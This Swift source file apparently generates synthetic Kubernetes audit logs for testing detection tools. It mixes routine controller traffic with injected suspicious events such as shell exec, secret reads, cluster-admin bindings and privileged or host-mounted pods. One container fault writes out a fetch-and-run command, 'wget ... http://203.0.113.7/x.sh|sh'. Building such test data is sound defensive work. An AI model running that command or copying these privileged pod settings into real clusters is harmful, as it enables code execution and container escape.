/// A Kubernetes audit log (`audit.k8s.io/v1`, a line an event) as a busy cluster writes it.
///
/// The mix, in parts of a thousand: 220 reads by controllers, 160 lease renewals, 200 pod status patches, 170 pod creations
/// (one in fifty of them bad), 90 writes of Deployments, 110 core Events, 50 of what attackers and operators do.
public struct AuditLog {
    private var random: SplitMix
    private var microseconds = 1_790_000_000_000_000

    /// Starts a log from a seed; the same seed makes the same bytes.
    public init(seed: UInt64 = 1610) { random = SplitMix(seed: seed) }

    /// The next line, without its line feed.
    public mutating func nextLine() -> String {
        let namespace = random.pick(Self.namespaces)
        switch random.below(1000) {
        case ..<220: return read(in: namespace)
        case ..<380: return lease()
        case ..<580: return status(in: namespace)
        case ..<750: return podCreation(in: namespace)
        case ..<840: return deployment(in: namespace)
        case ..<950: return coreEvent(in: namespace)
        default: return unusual(in: namespace)
        }
    }

    static let namespaces = [
        "default", "kube-system", "payments", "shop", "ci", "monitoring", "team-a", "team-b", "ingress", "data",
    ]
    static let people = ["alice@example.com", "bob@example.com", "carol@example.com", "kubernetes-admin"]
    static let controllers = [
        "system:kube-controller-manager", "system:kube-scheduler", "system:apiserver",
        "system:serviceaccount:kube-system:replicaset-controller", "system:serviceaccount:kube-system:job-controller",
        "system:serviceaccount:kube-system:daemon-set-controller",
    ]
    static let images = [
        "registry.example.com/team/app", "ghcr.io/acme/worker", "quay.io/prometheus/node-exporter",
        "docker.io/library/nginx", "docker.io/library/alpine",
    ]
    static let agents = [
        "kubelet/v1.36.2 (linux/amd64) kubernetes/0a1b2c3",
        "kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/0a1b2c3/system:serviceaccount:kube-system",
        "kubectl/v1.36.2 (linux/amd64) kubernetes/0a1b2c3", "argocd-application-controller/v3.1.0", "helm/v3.19.0",
    ]

    private mutating func account() -> String {
        "system:serviceaccount:\(random.pick(Self.namespaces)):\(random.pick(["default", "deployer", "app", "operator"]))"
    }
    private mutating func node() -> String { "system:node:node-\(100 + random.below(60))" }
    private mutating func uid() -> String {
        let digits = random.hex(32)
        func part(_ from: Int, _ length: Int) -> Substring { digits.dropFirst(from).prefix(length) }
        return "\(part(0, 8))-\(part(8, 4))-\(part(12, 4))-\(part(16, 4))-\(part(20, 12))"
    }
    private mutating func podName() -> String {
        "\(random.pick(["web", "api", "worker", "cache", "batch"]))-\(random.hex(9))-\(random.hex(5))"
    }

    private mutating func read(in namespace: String) -> String {
        let resource = random.pick(["pods", "configmaps", "endpointslices", "nodes", "services", "deployments"])
        return event(
            verb: random.pick(["get", "list", "watch"]), user: random.pick(Self.controllers), resource: resource,
            group: resource == "deployments" ? "apps" : "", namespace: namespace,
            uri: "/api/v1/namespaces/\(namespace)/\(resource)?limit=500&resourceVersion=\(random.below(100_000_000))")
    }

    private mutating func lease() -> String {
        let name = node()
        let object = """
            {"kind":"Lease","apiVersion":"coordination.k8s.io/v1","metadata":{"name":"\(name)","namespace":"kube-node-lease",\
            "uid":"\(uid())","resourceVersion":"\(random.below(100_000_000))"},"spec":{"holderIdentity":"\(name)",\
            "leaseDurationSeconds":40,"renewTime":"\(time(0))"}}
            """
        return event(
            verb: "update", user: name, resource: "leases", group: "coordination.k8s.io", namespace: "kube-node-lease",
            uri: "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/\(name)", request: object,
            response: object)
    }

    private mutating func status(in namespace: String) -> String {
        let name = podName()
        let conditions = ["Initialized", "Ready", "ContainersReady", "PodScheduled"].map { kind in
            #"{"type":"\#(kind)","status":"True","lastProbeTime":null,"lastTransitionTime":"2026-11-01T00:00:00Z"}"#
        }
        let patch = """
            {"metadata":{"uid":"\(uid())"},"status":{"conditions":[\(conditions.joined(separator: ","))],"containerStatuses":[\
            {"name":"c0","containerID":"containerd://\(random.hex(64))","image":"\(random.pick(Self.images)):1.2",\
            "imageID":"docker.io/library/nginx@sha256:\(random.hex(64))","ready":true,"restartCount":0,"started":true,\
            "state":{"running":{"startedAt":"2026-11-01T00:00:00Z"}}}],"podIP":"10.244.1.\(random.below(250))",\
            "phase":"Running"}}
            """
        let whole = random.chance(55) ? pod(name, namespace, isBad: false) : nil
        return event(
            verb: "patch", user: node(), resource: "pods", subresource: "status", namespace: namespace, name: name,
            uri: "/api/v1/namespaces/\(namespace)/pods/\(name)/status", request: patch, response: whole)
    }

    private mutating func podCreation(in namespace: String) -> String {
        let name = podName()
        let isBad = random.chance(2)
        let object = pod(name, namespace, isBad: isBad)
        return event(
            verb: "create", user: isBad ? random.pick(Self.people) : random.pick(Self.controllers), resource: "pods",
            namespace: namespace, name: name, uri: "/api/v1/namespaces/\(namespace)/pods", code: 201, request: object,
            response: random.chance(50) ? object : nil)
    }

    private mutating func deployment(in namespace: String) -> String {
        let name = String(podName().prefix(10))
        let object = """
            {"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"\(name)","namespace":"\(namespace)",\
            "labels":{"app":"\(name)"}},"spec":{"replicas":\(1 + random.below(8)),"selector":{"matchLabels":{"app":"\(name)"}},\
            "template":{"metadata":{"labels":{"app":"\(name)"}},"spec":\(podSpec(isBad: random.chance(2)))}}}
            """
        return event(
            verb: random.pick(["create", "update", "patch", "delete"]),
            user: random.chance(60) ? account() : random.pick(Self.people), resource: "deployments", group: "apps",
            namespace: namespace, name: name, uri: "/apis/apps/v1/namespaces/\(namespace)/deployments/\(name)",
            request: object)
    }

    private mutating func coreEvent(in namespace: String) -> String {
        let object = """
            {"kind":"Event","apiVersion":"v1","metadata":{"name":"\(podName()).\(random.hex(16))","namespace":"\(namespace)"},\
            "involvedObject":{"kind":"Pod","namespace":"\(namespace)","name":"\(podName())","uid":"\(uid())"},\
            "reason":"\(random.pick(["Pulled", "Created", "Started", "BackOff", "Scheduled"]))",\
            "message":"Successfully assigned \(namespace)/\(podName())","source":{"component":"kubelet"},\
            "firstTimestamp":"2026-11-01T00:00:00Z","count":\(1 + random.below(40)),"type":"Normal"}
            """
        return event(
            verb: "create", user: node(), resource: "events", namespace: namespace,
            uri: "/api/v1/namespaces/\(namespace)/events", code: 201, request: object, response: object)
    }

    private mutating func unusual(in namespace: String) -> String {
        let user = random.chance(30) ? account() : random.pick(Self.people)
        let name = podName()
        switch random.below(6) {
        case 0:
            return event(
                verb: "create", user: user, resource: "pods", subresource: "exec", namespace: namespace, name: name,
                uri:
                    "/api/v1/namespaces/\(namespace)/pods/\(name)/exec?command=%2Fbin%2Fsh&container=c0&stdin=true&tty=true",
                code: 101)
        case 1:
            return event(
                verb: random.pick(["get", "list"]), user: user, resource: "secrets", namespace: namespace,
                uri: "/api/v1/namespaces/\(namespace)/secrets", code: random.pick([200, 403]))
        case 2:
            let role = random.pick(["view", "edit", "cluster-admin"])
            let object = """
                {"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"\(name)"},\
                "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"\(role)"},\
                "subjects":[{"kind":"ServiceAccount","name":"default","namespace":"\(namespace)"}]}
                """
            return event(
                verb: "create", user: user, resource: "clusterrolebindings", group: "rbac.authorization.k8s.io",
                name: name, uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", code: 201, request: object)
        case 3:
            return event(
                verb: "delete", user: user, resource: "validatingwebhookconfigurations",
                group: "admissionregistration.k8s.io", name: name,
                uri: "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/\(name)")
        case 4:
            return event(
                verb: "get", user: "system:anonymous", resource: "pods", namespace: namespace,
                uri: "/api/v1/namespaces/\(namespace)/pods", code: 403)
        default:
            let patch = """
                {"spec":{"ephemeralContainers":[{"name":"debugger-\(random.hex(5))","image":"docker.io/library/busybox",\
                "stdin":true,"tty":true}]}}
                """
            return event(
                verb: "patch", user: user, resource: "pods", subresource: "ephemeralcontainers", namespace: namespace,
                name: name, uri: "/api/v1/namespaces/\(namespace)/pods/\(name)/ephemeralcontainers", request: patch)
        }
    }

    private mutating func podSpec(isBad: Bool) -> String {
        let fault = isBad ? random.below(5) : -1
        let count = 1 + random.below(3)
        let containers = (0..<count).map { container($0, fault: $0 == 0 ? fault : -1) }
        let hostVolume = fault == 1 ? #",{"name":"h","hostPath":{"path":"/"}}"# : ""
        let hostNamespaces = fault == 2 ? #""hostNetwork":true,"hostPID":true,"# : ""
        return """
            {"volumes":[{"name":"data","emptyDir":{}},{"name":"tok","projected":{"sources":[{"serviceAccountToken":\
            {"expirationSeconds":3607,"path":"token"}},{"configMap":{"name":"kube-root-ca.crt","items":[{"key":"ca.crt",\
            "path":"ca.crt"}]}}],"defaultMode":420}}\(hostVolume)],"containers":[\(containers.joined(separator: ","))],\
            \(hostNamespaces)"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst",\
            "serviceAccountName":"app","securityContext":{"fsGroup":2000},"schedulerName":"default-scheduler","tolerations":\
            [{"key":"node.kubernetes.io/not-ready","operator":"Exists","effect":"NoExecute","tolerationSeconds":300}],\
            "priority":0,"enableServiceLinks":true,"preemptionPolicy":"PreemptLowerPriority"}
            """
    }

    private mutating func container(_ position: Int, fault: Int) -> String {
        let variables = (0..<(2 + random.below(6))).map { number in
            #"{"name":"VAR_\#(number)","value":"\#(random.hex(8 + random.below(32)))"}"#
        }
        let security =
            switch fault {
            case 0: #"{"privileged":true}"#
            case 3: #"{"capabilities":{"add":["SYS_ADMIN"]}}"#
            default: #"{"allowPrivilegeEscalation":false,"runAsNonRoot":true,"capabilities":{"drop":["ALL"]}}"#
            }
        let command =
            fault == 4
            ? #"["/bin/sh","-c","wget -qO- http://203.0.113.7/x.sh|sh"]"#
            : #"["/bin/app","--config=/etc/app/config.yaml"]"#
        return """
            {"name":"c\(position)","image":"\(random.pick(Self.images)):\(random.below(10)).\(random.below(20)).\(random.below(30))",\
            "imagePullPolicy":"IfNotPresent","command":\(command),"args":["--shard=\(random.below(32))",\
            "--listen=0.0.0.0:8080","--log-format=json"],"env":[\(variables.joined(separator: ","))],"ports":[{"name":"http",\
            "containerPort":8080,"protocol":"TCP"}],"resources":{"limits":{"cpu":"1","memory":"512Mi"},"requests":{"cpu":"100m",\
            "memory":"128Mi"}},"livenessProbe":{"httpGet":{"path":"/healthz","port":8080,"scheme":"HTTP"},\
            "initialDelaySeconds":5,"timeoutSeconds":1,"periodSeconds":10,"successThreshold":1,"failureThreshold":3},\
            "volumeMounts":[{"name":"tok","readOnly":true,"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"},\
            {"name":"data","mountPath":"/data"}],"terminationMessagePath":"/dev/termination-log",\
            "terminationMessagePolicy":"File","securityContext":\(security)}
            """
    }

    private mutating func pod(_ name: String, _ namespace: String, isBad: Bool) -> String {
        """
        {"kind":"Pod","apiVersion":"v1","metadata":{"name":"\(name)","generateName":"\(name.dropLast(5))",\
        "namespace":"\(namespace)","uid":"\(uid())","creationTimestamp":null,"labels":{"app":"\(name.prefix(3))",\
        "pod-template-hash":"\(random.hex(10))"},"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-11-01T00:00:00Z"},\
        "managedFields":[{"manager":"kube-controller-manager","operation":"Update","apiVersion":"v1",\
        "time":"2026-11-01T00:00:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:generateName":{},"f:labels":\
        {".":{},"f:app":{}}},"f:spec":{"f:containers":{"k:{\\"name\\":\\"c0\\"}":{".":{},"f:image":{},"f:name":{}}}}}}]},\
        "spec":\(podSpec(isBad: isBad)),"status":{}}
        """
    }

    private mutating func event(
        verb: String, user: String, resource: String, group: String = "", subresource: String? = nil,
        namespace: String? = nil, name: String? = nil, uri: String, code: Int = 200, request: String? = nil,
        response: String? = nil
    ) -> String {
        microseconds += 50 + random.below(3950)
        var reference = #"{"resource":"\#(resource)""#
        if let namespace { reference += #","namespace":"\#(namespace)""# }
        if let name { reference += #","name":"\#(name)""# }
        if !group.isEmpty { reference += #","apiGroup":"\#(group)""# }
        if let subresource { reference += #","subresource":"\#(subresource)""# }
        reference += #","apiVersion":"v1"}"#
        let status =
            code < 400
            ? #"{"metadata":{},"code":\#(code)}"#
            : #"{"metadata":{},"status":"Failure","message":"forbidden: cannot \#(verb) resource","reason":"Forbidden","code":\#(code)}"#
        let level = response != nil ? "RequestResponse" : request != nil ? "Request" : "Metadata"
        return """
            {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"\(level)","auditID":"\(uid())",\
            "stage":"ResponseComplete","requestURI":"\(uri)","verb":"\(verb)","user":{"username":"\(user)","uid":"\(uid())",\
            "groups":["system:authenticated"],"extra":{"authentication.kubernetes.io/credential-id":["JTI=\(uid())"]}},\
            "sourceIPs":["10.0.\(random.below(255)).\(random.below(254))"],"userAgent":"\(random.pick(Self.agents))",\
            "objectRef":\(reference),"responseStatus":\(status)\(request.map { #","requestObject":\#($0)"# } ?? "")\
            \(response.map { #","responseObject":\#($0)"# } ?? ""),"requestReceivedTimestamp":"\(time(0))",\
            "stageTimestamp":"\(time(300 + random.below(19_000)))","annotations":{"authorization.k8s.io/decision":\
            "\(code < 400 ? "allow" : "forbid")","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding"}}
            """
    }

    private func time(_ later: Int) -> String {
        // Every log begins on 2026-09-21 and stays within days, so that no calendar is needed.
        let since = microseconds + later - 1_790_000_000_000_000 + 48_800_000_000
        let seconds = since / 1_000_000
        func two(_ number: Int) -> String { number < 10 ? "0\(number)" : "\(number)" }
        let day = two(21 + seconds / 86_400)
        let fraction = String(since % 1_000_000)
        let padded = String(repeating: "0", count: 6 - fraction.count) + fraction
        return "2026-09-\(day)T\(two(seconds / 3600 % 24)):\(two(seconds / 60 % 60)):\(two(seconds % 60)).\(padded)Z"
    }
}
